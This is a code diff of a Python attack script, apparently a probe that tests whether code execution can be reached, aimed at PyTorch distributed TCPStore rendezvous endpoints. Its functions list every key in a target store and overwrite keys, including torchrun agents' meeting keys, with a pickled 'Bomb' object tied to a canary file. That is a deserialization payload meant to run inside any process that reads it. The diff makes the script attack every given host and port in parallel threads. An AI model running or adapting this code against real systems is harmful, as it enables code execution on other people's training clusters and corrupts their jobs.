@@ -15,6 +15,7 @@ import socket
 import struct
 import sys
 import threading
+import time
 from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
@@ -41,7 +42,6 @@ class Bomb:
 
 def attack_store(host: str, port: int, bomb: bytes) -> dict[str, Any]:
     """Read every key of a store, and write the bomb to each and to those in which torchrun's agents meet."""
-    # libuv's store takes a bare word for a protocol error and hangs up; others stay silent, and are left after a while.
     store = c10d.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=PATIENCE)
     store.set_timeout(PATIENCE)
     read = list(store.list_keys())
@@ -80,36 +80,32 @@ def attack_raw(host: str, port: int, bomb: bytes) -> dict[str, Any]:
     return {}
 
 
-def attempt(attack: Callable[[str, int, bytes], dict[str, Any]], host: str, port: int, bomb: bytes) -> dict[str, Any]:
-    """What came of an attack; nothing where it does not come to an end."""
-    found: dict[str, Any] = {}
-
-    def run() -> None:
-        with contextlib.suppress(Exception):
-            found.update(attack(host, port, bomb))
-
-    thread = threading.Thread(target=run, daemon=True)
-    thread.start()
-    thread.join(2 * PATIENCE.total_seconds())
-    return found
+def attempt(attack: Callable[[str, int, bytes], dict[str, Any]], place: str, bomb: bytes, found: dict[str, Any]) -> None:
+    """Note what comes of an attack; nothing where it fails."""
+    host, _, port = place.rpartition(":")
+    with contextlib.suppress(Exception):
+        found.update(attack(host, int(port), bomb))
 
 
 def main() -> None:
-    """Attack every port."""
+    """Attack every port, all at once: some of them keep a stranger waiting."""
     canary, *places = sys.argv[1:]
     if os.getuid() == 0:
         os.setgroups([])
         os.setgid(NOBODY)
         os.setuid(NOBODY)
     bomb = pickle.dumps(Bomb(Path(canary)))
-    found: dict[str, dict[str, Any]] = {}
-    for place in places:
-        host, _, port = place.rpartition(":")
-        found[place] = {}
-        for attack in (attack_store, attack_hub, attack_raw):
-            found[place].update(attempt(attack, host, int(port), bomb))
+    found: dict[str, dict[str, Any]] = {place: {} for place in places}
+    ways = (attack_store, attack_hub, attack_raw)
+    tries = [(attack, place, bomb, found[place]) for attack in ways for place in places]
+    threads = [threading.Thread(target=attempt, args=arguments, daemon=True) for arguments in tries]
+    for thread in threads:
+        thread.start()
+    deadline = time.monotonic() + 3 * PATIENCE.total_seconds()
+    for thread in threads:
+        thread.join(max(0.0, deadline - time.monotonic()))
     print(json.dumps(found), flush=True)
-    os._exit(0)  # a store's client that got no answer would hold up the end
+    os._exit(0)  # a store's client that gets no answer would hold up the end
 
 
 if __name__ == "__main__":
